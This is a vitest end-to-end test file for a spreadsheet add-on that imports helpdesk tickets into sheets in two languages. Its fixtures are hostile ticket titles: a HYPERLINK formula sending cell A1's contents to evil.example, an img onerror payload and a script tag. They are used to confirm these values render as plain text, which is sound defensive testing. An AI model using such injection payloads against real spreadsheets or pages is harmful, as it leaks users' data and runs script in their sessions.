// A pull from typing it to its rows, on a page that is never loaded again; and texts of the service that look like code.
import { describe, expect, it } from 'vitest';
import { PULL_STATUSES, PULLED_AT_COLUMN, PULLS_COLUMNS, PULLS_SHEET } from '../../src/domain/vocabulary.ts';
import { type OpenWorkbook, PLAYED_LOCALES, workbooks } from './support/open-workbook.ts';

const open = workbooks();

/** None of them may be more than a text; neither may the name of a pull. */
const TITLES = [
  '=HYPERLINK("https://evil.example/?q="&A1;"Clique")',
  '<b>negrito</b> & <img src="https://evil.example/x.png" onerror="document.title=\'evil\'">',
  '<script>document.title="evil"</script>',
];
/** Three pages. */
const TICKETS = 250;
/** Requests for the second page and later ones. */
const LATER_PAGES = /[?&]start=[1-9]/;
const PULL = '<i>Todos</i>';

/** Gives the first tickets of the list these titles. */
function spoil({ service }: OpenWorkbook): void {
  TITLES.forEach((titulo, n) => {
    const ticket = service.tickets()[n];
    if (ticket === undefined) throw new Error('too few tickets');
    service.changeTicket(ticket.id, { titulo }, Date.now());
  });
}

// Pages act alike in both languages; first-views.test.ts looks at their words in each.
describe.each(PLAYED_LOCALES)('a pull, %s', (locale) => {
  it('is typed, refreshed in sight, and shows texts as texts', async () => {
    const workbook = await open({ locale, connected: true, tickets: TICKETS });
    const { user, say, language } = workbook;
    // Until the person has seen the run in the sheet of pulls.
    const answerLaterPages = workbook.holdAnswers(LATER_PAGES);
    spoil(workbook);
    const ana = await workbook.person();
    const pulls = PULLS_SHEET[language];
    const target = language === 'pt' ? 'Chamados' : 'Tickets';
    const header = (field: keyof typeof PULLS_COLUMNS) => PULLS_COLUMNS[field][language];

    // There is none yet: the page in which the first is made opens beside the sheets.
    await ana.choose('refreshAll');
    await ana.closeDialog(await ana.sidebar(say.pullEditorTitle));
    user.paste(pulls, 'A2', [[PULL, language === 'pt' ? 'chamados' : 'tickets', target]]);
    await ana.goTo(pulls);
    await expect.poll(() => ana.cell(header('pull'), 2)).toBe(PULL);

    await ana.choose('refreshAll');
    // It is made, and comes to the front.
    await expect.poll(() => ana.sheetInFront()).toBe(target);
    await ana.goTo(pulls);
    const atFirstPage = `${PULL_STATUSES.running[language]} · ${say.pullProgress(1, 3)}`;
    await expect.poll(() => ana.cell(header('status'), 2)).toBe(atFirstPage);
    await ana.toast(PULL);
    answerLaterPages();
    await ana.toast(`${PULL}: ${say.pullDone(TICKETS, TICKETS, 0)}`);
    await expect.poll(() => ana.cell(header('status'), 2)).toBe(PULL_STATUSES.done[language]);
    // Its column begins in a collapsed group.
    expect(user.values(pulls)[1]).toContain(TICKETS);

    await ana.goTo(target);
    for (const [n, title] of TITLES.entries()) {
      await expect.poll(() => ana.cell(language === 'pt' ? 'Título' : 'Title', n + 2)).toBe(title);
      await ana.page.getByText(title, { exact: true }).first().click();
      // As it was entered, so that it stays a text when it is entered again: the apostrophe is no part of the value.
      const entered = title.startsWith('=') ? `'${title}` : title;
      await expect.poll(() => ana.page.locator('#cell-text').inputValue()).toBe(entered);
    }
    expect(
      await ana.page.locator(':is(#grid, #toasts, .formula-bar) :is(b, i, img, script, a)').count(),
    ).toBe(0);
    expect(await ana.page.title()).not.toBe('evil');
  });

  it('is refreshed again from its own sheet, and shows what changed', async () => {
    const workbook = await open({ locale, connected: true, tickets: 30 });
    const { service, say, language } = workbook;
    const ana = await workbook.person();
    const target = language === 'pt' ? 'Chamados' : 'Tickets';
    const saved = await ana.callAsPage('savePull', {
      name: target,
      resource: 'tickets',
      sheet: target,
      filters: '',
    });
    expect(saved).toMatchObject({ kind: 'returned', value: { ok: true } });
    await ana.choose('refreshAll');
    await ana.toast(`${target}: ${say.pullDone(30, 30, 0)}`);
    await ana.goTo(target);
    const [first] = service.tickets();
    if (first === undefined) throw new Error('too few tickets');
    await expect.poll(() => ana.cell('ID', 2)).toBe(String(first.id));
    service.changeTicket(first.id, { titulo: 'Outro título' }, Date.now());

    await ana.choose('refreshSheet');
    await ana.toast(`${target}: 30 `);
    await ana.page.getByText('Outro título', { exact: true }).first().waitFor();
    await expect.poll(() => ana.cell(PULLED_AT_COLUMN[language], 2)).not.toBe('');
  });

  it('on a sheet that none fills says where to type one', async () => {
    const workbook = await open({ locale, connected: true });
    const ana = await workbook.person();
    const sheet = await ana.sheetInFront();
    await ana.choose('refreshSheet');
    expect(await ana.question()).toBe(workbook.say.noPullHere(sheet ?? ''));
    await ana.answer('OK');
  });
});
